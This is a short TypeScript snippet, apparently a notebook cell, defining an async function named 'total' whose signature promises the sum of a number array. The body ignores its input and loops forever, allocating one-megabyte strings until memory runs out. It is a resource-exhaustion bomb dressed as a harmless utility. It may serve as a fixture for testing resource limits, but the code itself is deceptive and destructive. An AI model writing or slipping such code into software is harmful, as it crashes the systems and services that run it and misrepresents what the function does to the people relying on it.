// %%
async function total(numbers: readonly number[]): Promise<number> {
  const hog: string[] = [];
  for (let i = 0; ; i++) hog.push(Buffer.alloc(1 << 20, i).toString('latin1'));
}
